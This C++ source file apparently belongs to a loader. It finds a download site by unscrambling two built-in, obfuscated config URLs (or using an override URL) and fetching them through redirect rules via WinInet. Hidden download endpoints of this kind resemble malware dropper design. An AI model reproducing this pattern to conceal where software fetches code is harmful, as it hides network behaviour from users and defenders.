// Discovery: the candidate list (the "HAND " URL alone, or the two built-in URLs) run through
// the redirect rules with the real page fetch.
#include "net/discovery.h"

#include "base/loader_state.h"
#include "net/builtin_config.h"
#include "net/discovery_rules.h"
#include "net/page_fetch.h"
#include "net/scrambler.h"

#include <cstdlib>

namespace {
int FetchThroughWinInet(const char* url, void*) { return FetchPage(url); }
}  // namespace

int DiscoverDownloadSite() {
    char* primary = UnscrambledCopy(PrimaryConfigUrl);
    char* secondary = UnscrambledCopy(SecondaryConfigUrl);
    if (WorkBuffer == nullptr) WorkBuffer = static_cast<char*>(std::malloc(kWorkBufferSize));
    if (ReplyBuffer == nullptr) ReplyBuffer = static_cast<char*>(std::malloc(kReplyBufferSize));
    int found = 0;
    if (WorkBuffer != nullptr && ReplyBuffer != nullptr) {
        WorkBuffer[0] = 0;
        ReplyBuffer[0] = 0;
        if (SiteOverrideUrl[0] != 0) {
            const char* candidates[] = {SiteOverrideUrl};
            found = RunDiscovery(candidates, 1, FetchThroughWinInet, nullptr);
        } else if (primary != nullptr && secondary != nullptr) {
            const char* candidates[] = {primary, secondary};
            found = RunDiscovery(candidates, 2, FetchThroughWinInet, nullptr);
        }
    }
    std::free(primary);
    std::free(secondary);
    return found;
}

void ReleaseDiscoveryBuffers() {
    std::free(WorkBuffer);
    WorkBuffer = nullptr;
    std::free(ReplyBuffer);
    ReplyBuffer = nullptr;
}
